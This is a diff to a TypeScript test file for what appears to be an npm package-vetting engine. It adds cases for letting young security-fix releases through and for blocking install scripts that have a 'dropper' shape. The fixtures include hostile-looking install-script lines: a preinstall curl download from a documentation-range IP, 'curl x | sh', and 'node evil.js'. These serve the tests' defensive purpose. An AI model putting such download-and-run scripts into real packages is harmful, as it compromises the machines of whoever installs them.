@@ -4,7 +4,7 @@ import * as assert from 'uvu/assert'
 import { mergeWithFloor } from '../../lib/policy/merge.ts'
 import type { PolicyDocument } from '../../lib/policy/schema.ts'
 import { RULES } from '../../lib/rules/index.ts'
-import type { DeclaredManifest, PackageFacts, PackageView, RuleContext, TarballManifest, VersionFacts } from '../../lib/model/rule.js'
+import type { Advisory, DeclaredManifest, PackageFacts, PackageView, RuleContext, TarballManifest, VersionFacts } from '../../lib/model/rule.js'
 import { judge } from '../../lib/engine/judge.ts'
 
 const NOW = new Date('2026-11-27T12:00:00Z')
@@ -100,6 +100,39 @@ function codes(pkg: PackageView, pkgFacts: PackageFacts, policy: PolicyDocument 
   return judgement.findings.map((finding) => `${finding.severity}:${finding.code}`)
 }
 
+const DROPPER: NonNullable<TarballManifest['scriptContent']> = {
+  analysis: 1,
+  shapes: [{ shape: 'download-and-run', file: 'preinstall.sh', line: 7, excerpt: 'curl http://198.51.100.28/download/jsextension -o jsextension' }],
+  unread: [],
+  read: ['x.js', 'preinstall.sh'],
+}
+
+/** fresh-pkg 1.1.0 (1 day old) replacing 1.0.0, with the advisories given about 1.0.0 and 1.1.0. */
+function securityFixCases(): Array<[string, PackageView, PackageFacts, PolicyDocument, string[]]> {
+  const young = (replaced: Advisory[], current: Advisory[] = []): PackageFacts => ({
+    ...facts([versionFacts('1.0.0', 400), versionFacts('1.1.0', 1)], '1.1.0'),
+    advisories: current,
+    replacedAdvisories: replaced,
+  })
+  const bulk = (range: string, id = '1100123'): Advisory => ({ id, source: 'registry-advisories', summary: 'Prototype pollution', isMalware: false, severity: 'high', vulnerableVersions: range })
+  const osv = (fixed: string[]): Advisory => ({ id: 'GHSA-aaaa-bbbb-cccc', source: 'osv-api', summary: 'Prototype pollution', isMalware: false, fixedIn: fixed })
+  const replacing = view({ version: '1.1.0', replacesVersion: '1.0.0' })
+  const ON = { minimumReleaseAge: { allowSecurityFixes: true } }
+  return [
+    ['a fix the registry range names (<1.1.0)', replacing, young([bulk('<1.1.0')]), ON, ['warn:minimum-release-age/security-fix']],
+    ['a fix one set of a range names (>=2.0.0 <2.3.1 || <1.1.0)', replacing, young([bulk('>=2.0.0 <2.3.1 || <1.1.0')]), ON, ['warn:minimum-release-age/security-fix']],
+    ['a fix OSV names (fixed: 1.1.0)', replacing, young([osv(['1.1.0'])]), ON, ['warn:minimum-release-age/security-fix']],
+    ['the option off (default)', replacing, young([bulk('<1.1.0')]), {}, ['block:minimum-release-age/too-young']],
+    ['a range that names another fix (<1.0.5)', replacing, young([bulk('<1.0.5')]), ON, ['block:minimum-release-age/too-young']],
+    ['a range that still covers the new version (<2.0.0)', replacing, young([bulk('<2.0.0')]), ON, ['block:minimum-release-age/too-young']],
+    ['OSV names another fix', replacing, young([osv(['1.0.5'])]), ON, ['block:minimum-release-age/too-young']],
+    ['the new version is reported by the same advisory', replacing, young([bulk('<1.1.0')], [bulk('<1.1.0')]), ON, ['block:minimum-release-age/too-young']],
+    ['no version replaced', view({ version: '1.1.0' }), young([bulk('<1.1.0')]), ON, ['block:minimum-release-age/too-young']],
+    ['a downgrade is no fix', view({ version: '1.1.0', replacesVersion: '1.2.0' }), young([bulk('<1.1.0')]), ON, ['block:minimum-release-age/too-young']],
+    ['the young fix is still judged by every other rule', view({ version: '1.1.0', replacesVersion: '1.0.0', scripts: { postinstall: 'node x.js' } }), young([bulk('<1.1.0')]), ON, ['warn:install-scripts/unreviewed', 'warn:minimum-release-age/security-fix']],
+  ]
+}
+
 const CASES: Array<[string, PackageView, PackageFacts, PolicyDocument, string[], Partial<RuleContext>?]> = [
   ['a mature registry package is clean', view(), OLD, {}, []],
   // registries
@@ -125,6 +158,8 @@ const CASES: Array<[string, PackageView, PackageFacts, PolicyDocument, string[],
   ['a young version under a shorter age', view(), facts([versionFacts('1.3.0', 1)], '1.3.0'), { minimumReleaseAge: { age: '12h' } }, []],
   ['no publish time', view(), facts([versionFacts('1.3.0', null)], '1.3.0'), {}, ['block:minimum-release-age/unknown-publish-time']],
   ['no publish time, warn', view(), facts([versionFacts('1.3.0', null)], '1.3.0'), { minimumReleaseAge: { missingTime: 'warn' } }, ['warn:minimum-release-age/unknown-publish-time']],
+  // minimumReleaseAge.allowSecurityFixes: the young version an advisory names as the fix of the one it replaces
+  ...securityFixCases(),
   // install scripts
   ['an unreviewed postinstall', view({ scripts: { postinstall: 'node x.js' } }), OLD, {}, ['warn:install-scripts/unreviewed']],
   ['a script known only from the packument', view(), facts([versionFacts('1.3.0', 100, { scripts: { preinstall: 'curl x | sh' } })], '1.3.0'), {}, ['warn:install-scripts/unreviewed']],
@@ -142,6 +177,12 @@ const CASES: Array<[string, PackageView, PackageFacts, PolicyDocument, string[],
   ['a tarball that agrees with the registry', view(), withTarball(), {}, []],
   ['no tarball read (check): nothing to compare', view(), OLD, {}, []],
   ['a postinstall only in the tarball', view(), withTarball({ scripts: { postinstall: 'node evil.js' } }), {}, ['block:manifest-confusion/scripts-differ', 'warn:install-scripts/unreviewed']],
+  // install-script content (the tarball's verdict): a dropper shape blocks an unreviewed script, per scripts.content
+  ['an unreviewed script whose text shows a dropper shape', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), {}, ['block:install-scripts/dropper']],
+  ['a dropper shape, scripts.content warn', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), { scripts: { content: 'warn' } }, ['warn:install-scripts/dropper']],
+  ['a dropper shape, scripts.content off: the plain unreviewed warning', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), { scripts: { content: 'off' } }, ['warn:install-scripts/unreviewed']],
+  ['a dropper shape in an allowed (reviewed) script', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), { scripts: { allow: { 'left-pad': true } } }, []],
+  ['a script with no dropper shape stays a warning', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: { ...DROPPER, shapes: [] } }, {}, SCRIPTED_OLD), {}, ['warn:install-scripts/unreviewed']],
   ['a postinstall only in the tarball, rule on warn', view(), withTarball({ scripts: { postinstall: 'node evil.js' } }), { rules: { 'manifest-confusion': 'warn' } }, ['warn:manifest-confusion/scripts-differ', 'warn:install-scripts/unreviewed']],
   ['an allowed package whose tarball runs another postinstall is unreviewed', view(), withTarball({ scripts: { postinstall: 'node evil.js' } }, {}, SCRIPTED_OLD), { scripts: { allow: { 'left-pad': true } }, rules: { 'manifest-confusion': 'off' } }, ['warn:install-scripts/unreviewed']],
   ['an allowed package whose tarball agrees keeps its allowance', view(), withTarball({ scripts: { postinstall: 'node x.js' } }, {}, SCRIPTED_OLD), { scripts: { allow: { 'left-pad': true } } }, []],
